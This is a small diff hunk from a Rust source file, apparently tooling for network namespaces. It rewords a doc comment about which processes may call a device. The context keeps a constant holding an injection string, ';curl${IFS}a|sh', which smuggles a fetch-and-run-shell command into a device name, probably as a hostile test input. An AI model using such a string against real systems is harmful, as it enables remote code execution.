@@ -21,7 +21,7 @@ use crate::{
     needs,
 };
 
-/// A command, and nothing else, as a device may be called by whoever has a user namespace.
+/// A command, and nothing else, as any process with a user namespace may call a device.
 const DEVICE: &str = ";curl${IFS}a|sh";
 
 /// What `ip netns exec` mounts over `/etc/resolv.conf` of processes in a namespace.
